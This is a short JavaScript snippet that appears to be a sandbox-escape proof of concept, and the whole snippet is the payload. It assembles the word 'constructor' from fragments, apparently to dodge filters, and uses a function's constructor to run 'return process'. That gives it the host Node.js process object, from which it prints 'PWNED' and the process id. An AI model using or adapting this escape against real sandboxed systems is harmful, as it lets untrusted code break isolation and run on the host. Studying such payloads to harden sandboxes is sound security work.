const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class A { constructor() { return t; } }
console.log('PWNED', new A().go(fn)('return process')().pid);
